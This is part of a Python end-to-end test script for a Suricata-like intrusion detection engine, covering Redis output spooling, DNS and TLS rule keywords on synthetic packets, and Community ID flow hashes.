    check(len(first_alerts) == 18, f"eve.json still gets the 18 demo alerts, got {len(first_alerts)}")
    counters = sink_counters()
    check(counters.get("sent") == 0 and counters.get("spooled") == 19 and counters.get("spool_bytes", 0) > 0,
          f"with Redis down every record is spooled: {counters}")
    segments = [name for name in os.listdir(os.path.join(spool, "redis")) if name.endswith(".seg")]
    check(segments, "the spool has segment files")

    server = subprocess.Popen(["/usr/bin/redis-server", "--port", str(port), "--bind", "127.0.0.1", "--dir", env.dir,
                               "--save", "", "--appendonly", "no", "--logfile", env.path("redis.log")])
    try:
        deadline = time.time() + 10
        while True:
            try:
                socket.create_connection(("127.0.0.1", port), timeout=1).close()
                break
            except OSError:
                check(time.time() < deadline, "redis-server did not start")
                time.sleep(0.05)
        env.replay([pcap], rules, *sink)
        counters = sink_counters()
        check(counters.get("sent") == 38 and counters.get("spool_bytes") == 0 and counters.get("dropped") == 0,
              f"the second run delivers both runs' records: {counters}")
        with socket.create_connection(("127.0.0.1", port), timeout=5) as redis:
            redis.sendall(b"LRANGE soc 0 -1\r\n")
            data = b""
            while True:
                chunk = redis.recv(65536)
                data += chunk
                lines = data.split(b"\r\n")
                count = int(lines[0][1:])
                # *N, then $len and the value per element: complete when 1 + 2N lines are in.
                if not chunk or len(lines) >= 2 + 2 * count:
                    break
        values = [json.loads(lines[2 + 2 * i]) for i in range(count)]
    finally:
        server.terminate()
        server.wait(timeout=10)
    kinds = [v["event_type"] for v in values]
    expected_kinds = (["alert"] * 18 + ["stats"]) * 2
    check(kinds == expected_kinds, f"run 1's records first, then run 2's, none twice: {kinds}")
    expected_sids = [(a["pcap_cnt"], a["alert"]["signature_id"]) for a in first_alerts]
    for run in (0, 1):
        got = [(v["pcap_cnt"], v["alert"]["signature_id"]) for v in values[run * 19:run * 19 + 18]]
        check(got == expected_sids, f"run {run + 1}'s alerts in eve.json order:\n  got {got}\n  expected {expected_sids}")
    check(all(v.get("host") == "e2e-sensor" for v in values), "every record carries host = the sensor's name")


@case
def dns_tls_sticky_buffers(env):
    """dns.query (also dns_query), dns.opcode and a transform on DNS queries over UDP and TCP
    (query names only, as Suricata 7: never the response's); tls.sni, ja3.hash on the
    ClientHello's packet, ja3s.string and tls.version on the ServerHello's, tls.cert_* and
    tls.certs on the packet that completes the Certificate, a rule on the SNI and the
    certificate on the latter, once."""
    import hashlib
    cap = Capture()
    question = _dns_name("www.example.com") + bytes([0, 1, 0, 1])
    query = bytes([0x11, 0x11, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0]) + question
    response = bytes([0x11, 0x11, 0x81, 0x80, 0, 1, 0, 0, 0, 0, 0, 0]) + question
    udp_query = udp_packet(cap, "10.0.3.1", "10.0.3.53", 5300, 53, query)
    udp_packet(cap, "10.0.3.53", "10.0.3.1", 53, 5300, response)
    tcp = TcpSession(cap, "10.0.3.1", "10.0.3.53", 41001, 53)
    tcp.handshake()
    tcp_query = bytes([0x22, 0x22, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0]) + _dns_name("files.example.org") + bytes([0, 16, 0, 1])
    framed = len(tcp_query).to_bytes(2, "big") + tcp_query
    tcp.send(framed[:14])
    tcp_query_packet = tcp.send(framed[14:])
    tcp.close()

    sni = b"e2e.example.net"
    exts = (_tls_ext(0, (len(sni) + 3).to_bytes(2, "big") + b"\x00" + len(sni).to_bytes(2, "big") + sni)
            + _tls_ext(10, bytes([0, 4, 0, 29, 0, 23])) + _tls_ext(11, bytes([1, 0])))
    ciphers = bytes([0xc0, 0x2f, 0xc0, 0x30])
    hello = (bytes([3, 3]) + bytes(32) + bytes([0]) + len(ciphers).to_bytes(2, "big") + ciphers + bytes([1, 0])
             + len(exts).to_bytes(2, "big") + exts)
    server_exts = _tls_ext(65281, b"\x00")
    server_hello = bytes([3, 3]) + bytes(32) + bytes([0]) + bytes([0xc0, 0x2f, 0]) + len(server_exts).to_bytes(2, "big") \
        + server_exts
    chain = len(TLS_LEAF_DER).to_bytes(3, "big") + TLS_LEAF_DER
    flight = _tls_record(22, _tls_handshake(2, server_hello) + _tls_handshake(11, len(chain).to_bytes(3, "big") + chain)
                         + _tls_handshake(14, b""))
    tls = TcpSession(cap, "10.0.2.1", "10.0.2.2", 41000, 8443)
    tls.handshake()
    client_packet = tls.send(_tls_record(22, _tls_handshake(1, hello), 0x0301))
    split = flight.index(b"Example Corp") - 10
    server_hello_packet = tls.send(flight[:split], to_server=False)
    certificate_packet = tls.send(flight[split:], to_server=False)
    tls.close()
    cap.write(env.path("dns_tls.pcap"))
    ja3 = "771,49199-49200,0-10-11,29-23,0"
    rules = "\n".join([
        'alert dns any any -> any any (msg:"query"; dns.query; content:"www.example.com"; bsize:15; sid:1;)',
        'alert dns any any -> any any (msg:"legacy name, tcp"; dns_query; content:"files.example"; sid:2;)',
        'alert dns any any -> any any (msg:"opcode"; dns.opcode:0; dns.query; content:"example.org"; endswith; sid:3;)',
        'alert dns any any -> any any (msg:"absent"; dns.query; content:"nope"; sid:4;)',
        'alert dns any any -> any any (msg:"dotprefix"; dns.query; dotprefix; content:".example.com"; endswith; sid:5;)',
        'alert dns any any -> any any (msg:"opcode 2"; dns.opcode:2; sid:6;)',
        'alert tls any any -> any any (msg:"sni"; tls.sni; content:"e2e.example.net"; bsize:15; sid:10;)',
        'alert tls any any -> any any (msg:"subject"; tls.cert_subject; content:"CN=test.example.com"; endswith; sid:11;)',
        'alert tls any any -> any any (msg:"issuer"; tls.cert_issuer; content:"Eastwatch Test CA"; sid:12;)',
        f'alert tls any any -> any any (msg:"ja3"; ja3.hash; content:"{hashlib.md5(ja3.encode()).hexdigest()}"; sid:13;)',
        'alert tls any any -> any any (msg:"ja3s"; ja3s.string; content:"771,49199,"; startswith; sid:14;)',
        'alert tls any any -> any any (msg:"sni and cert"; tls.sni; content:"e2e"; tls.cert_subject; content:"Example Corp"; sid:15;)',
        'alert tls any any -> any any (msg:"version"; flow:to_client; tls.version:1.2; sid:16;)',
        'alert tls any any -> any any (msg:"certs"; tls.certs; content:"Example Corp"; sid:17;)',
        'alert tls any any -> any any (msg:"fingerprint"; tls.cert_fingerprint; content:"d3:57:37:d4"; startswith; sid:18;)',
        'alert tls any any -> any any (msg:"wrong sni"; tls.sni; content:"other.example"; sid:19;)',
    ]) + "\n"
    alerts, _ = env.replay([env.path("dns_tls.pcap")], rules)
    got = sorted(alerts, key=lambda x: (x["pcap_cnt"], x["alert"]["signature_id"]))
    expect_alerts(got, [(udp_query, 1), (udp_query, 5), (tcp_query_packet, 2), (tcp_query_packet, 3),
                        (client_packet, 10), (client_packet, 13), (server_hello_packet, 14), (server_hello_packet, 16),
                        (certificate_packet, 11), (certificate_packet, 12), (certificate_packet, 15),
                        (certificate_packet, 17), (certificate_packet, 18)])
    check(all("tx_id" in x for x in got), "every alert names its transaction")
    check(all(x.get("app_proto") in ("dns", "tls") for x in got), "app_proto")


def _community_id(src, dst, proto, sport, dport, seed=0):
    """Community ID v1, written from the specification (for TCP/UDP here)."""
    import base64
    import hashlib
    import ipaddress
    a, b = ipaddress.ip_address(src).packed, ipaddress.ip_address(dst).packed
    if (a, sport) > (b, dport):
        a, b, sport, dport = b, a, dport, sport
    data = seed.to_bytes(2, "big") + a + b + bytes([proto, 0]) + sport.to_bytes(2, "big") + dport.to_bytes(2, "big")
    return "1:" + base64.b64encode(hashlib.sha1(data).digest()).decode()


@case
def community_id_in_alerts_and_flows(env):
    """outputs.eve.community-id: every alert and flow record carries the flow's Community ID,
    the same for both directions, as computed from the specification; a seed changes it."""
    pcap = os.path.join(env.source, "tests", "pcaps", "guest-to-guest-attack.pcap")
    rules = open(os.path.join(env.source, "signatures", "rules", "eastwatch.rules")).read()
    alerts, _ = env.replay([pcap], rules, "--set", "outputs.eve.community-id=yes", "--set", "outputs.eve.flow=yes")
    records = [json.loads(line) for line in open(env.path("out/eve.json"))]
    flows = [r for r in records if r["event_type"] == "flow"]
    check(alerts and flows, "alerts and flow records")
    for r in alerts + flows:
        if r["proto"] not in ("TCP", "UDP"):
            continue
        proto = 6 if r["proto"] == "TCP" else 17
        want = _community_id(r["src_ip"], r["dest_ip"], proto, r["src_port"], r["dest_port"])
        check(r.get("community_id") == want, f"{r['event_type']} {r.get('community_id')} != {want}")
    os.remove(env.path("out/eve.json"))  # EVE appends, as Suricata's does
    seeded, _ = env.replay([pcap], rules, "--set", "outputs.eve.community-id=yes",
                           "--set", "outputs.eve.community-id-seed=7")
    first = next(a for a in seeded if a["proto"] == "TCP")
    check(first["community_id"] == _community_id(first["src_ip"], first["dest_ip"], 6, first["src_port"],
                                                 first["dest_port"], 7), first["community_id"])
    os.remove(env.path("out/eve.json"))
    plain, _ = env.replay([pcap], rules)
    check(plain and all("community_id" not in a for a in plain), "off by default")


def run_cases(cases, default_work, add_arguments=None):
    """The command line every golden e2e script shares: runs `cases` (each with its own Env) and
    prints PASS/FAIL per case; 0 when every selected case passed and there was at least one.
    add_arguments(parser), when given, adds the script's own options; a case reads them in env.args."""
    parser = argument_parser(default_work)
    parser.add_argument("-k", default="")
    if add_arguments:
        add_arguments(parser)
    args = parser.parse_args()
    os.environ["TZ"] = "UTC"
    passed = failed = 0
    for function in cases:
        if args.k not in function.__name__:
            continue
        try:
            function(Env(args, function.__name__))
            print(f"PASS {function.__name__}")
            passed += 1
        except Exception as error:  # noqa: BLE001
            print(f"FAIL {function.__name__}: {error}")
            if not isinstance(error, Failure):
                traceback.print_exc()
            failed += 1
    print(f"{passed} passed, {failed} failed")
    return 0 if failed == 0 and passed > 0 else 1


def main():
    return run_cases(CASES, "/tmp/eastwatch-e2e")

if __name__ == "__main__":
    sys.exit(main())
